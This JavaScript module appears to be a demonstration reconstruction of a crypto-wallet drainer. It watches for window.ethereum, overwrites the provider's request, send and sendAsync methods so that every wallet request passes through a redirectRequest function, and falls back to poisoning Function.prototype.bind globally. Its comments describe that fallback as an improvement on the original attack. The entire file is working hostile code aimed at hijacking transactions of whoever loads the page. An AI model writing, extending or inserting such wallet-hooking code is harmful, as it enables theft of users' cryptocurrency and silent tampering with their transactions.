// Owns the poisoned wallet: hooks request, send and sendAsync of window.ethereum, or the layer above when that fails.

import { redirectRequest } from './transaction.js';

const POLL_EVERY_MS = 100;
const POLL_TIMES = 50;
const SETTLE_MS = 300;
const METHODS = ['request', 'send', 'sendAsync'];

/** Polls for a wallet, as the original did, and hooks it shortly after it appears. */
export function watchForWallet(state, attempts = 0) {
  const provider = window.ethereum;
  if (provider) setTimeout(() => hook(provider, state), SETTLE_MS);
  else if (attempts < POLL_TIMES) setTimeout(() => watchForWallet(state, attempts + 1), POLL_EVERY_MS);
}

async function hook(provider, state) {
  const accounts = await provider.request({ method: 'eth_accounts' }).catch(() => []);
  state.walletConnected = accounts.length > 0;
  const taken = METHODS.map((method) => replaceMethod(provider, method));
  if (!taken[0]) hookOneLayerUp(provider);
  // For the demonstration's own eyes; the original told nobody.
  document.documentElement.dataset.payload = 'ready';
}

/** @returns {boolean} whether the page now reaches the wrapper. */
function replaceMethod(provider, method) {
  const original = provider[method];
  if (typeof original !== 'function') return false;
  const wrapper = function wrapper(request, ...rest) {
    return original.call(this ?? provider, redirectRequest(request), ...rest);
  };
  try {
    Object.defineProperty(provider, method, { value: wrapper, writable: true, configurable: true, enumerable: true });
  } catch {
    // Pinned. What the page reads back decides, not whether this threw.
  }
  return provider[method] === wrapper;
}

/**
 * Libraries bind `provider.request` before they use it, so a poisoned `bind` still sits between the shop and a
 * wallet whose own methods would not budge. The original had no such second try.
 */
function hookOneLayerUp(provider) {
  const { bind } = Function.prototype;
  Function.prototype.bind = function poisonedBind(self, ...args) {
    const bound = Reflect.apply(bind, this, [self, ...args]);
    return self === provider ? (request, ...rest) => bound(redirectRequest(request), ...rest) : bound;
  };
}
